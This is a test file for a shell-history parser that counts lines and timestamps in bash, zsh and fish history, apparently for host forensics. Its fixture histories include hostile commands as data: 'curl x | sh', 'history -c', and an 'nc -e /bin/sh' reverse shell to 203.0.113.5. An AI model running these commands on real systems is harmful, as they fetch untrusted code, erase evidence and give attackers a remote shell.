import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { HISTORY_FILES, historyFacts } from '../../src/host/history.js';

const b = (s: string) => Buffer.from(s, 'latin1');

test('bash with HISTTIMEFORMAT: #epoch lines give first and last times (CRLF tolerated)', () => {
  const f = historyFacts(b('#1795400000\r\nid\r\n#1795400060\r\ncurl x | sh\r\n#not-a-time\r\n#1795400120\r\nhistory -c'), 'bash');
  assert.deepEqual(f, { lines: 7, timestamps: 3, firstTime: '2026-11-23T02:13:20.000Z', lastTime: '2026-11-23T02:15:20.000Z' });
});

test('bash without timestamps, and an empty file', () => {
  assert.deepEqual(historyFacts(b('ls\nid\n'), 'bash'), { lines: 2, timestamps: 0, firstTime: null, lastTime: null });
  assert.deepEqual(historyFacts(b(''), 'zsh'), { lines: 0, timestamps: 0, firstTime: null, lastTime: null });
});

test('zsh extended history, out of order stamps kept in file order', () => {
  const f = historyFacts(b(': 1795300100:0;wget http://x/a\n: 1795300000:3;ls -la\\\n  --color\nplain line\n'), 'zsh');
  assert.equal(f.timestamps, 2);
  assert.equal(f.firstTime, '2026-11-21T22:28:20.000Z');
  assert.equal(f.lastTime, '2026-11-21T22:26:40.000Z');
  assert.equal(f.lines, 4);
});

test('fish history: when: lines', () => {
  const f = historyFacts(b('- cmd: whoami\n  when: 1795200000\n- cmd: nc -e /bin/sh 203.0.113.5 4444\n  when: 1795200300\n  paths:\n    - /bin/sh\n'), 'fish');
  assert.deepEqual(f, { lines: 6, timestamps: 2, firstTime: '2026-11-20T18:40:00.000Z', lastTime: '2026-11-20T18:45:00.000Z' });
});

test('formats without timestamps ignore lookalikes', () => {
  assert.equal(historyFacts(b('#1795400000\n'), 'python').timestamps, 0);
  assert.ok(HISTORY_FILES.some((f) => f.rel === '.local/share/fish/fish_history'));
});

test('property: any bytes give facts without throwing', () => {
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 300 }), fc.constantFrom(...HISTORY_FILES.map((f) => f.format)), (bytes, format) => {
      const f = historyFacts(Buffer.from(bytes), format);
      assert.ok(f.lines >= 0 && f.timestamps <= f.lines);
      for (const t of [f.firstTime, f.lastTime]) assert.ok(t === null || !Number.isNaN(Date.parse(t)));
    }),
  );
});
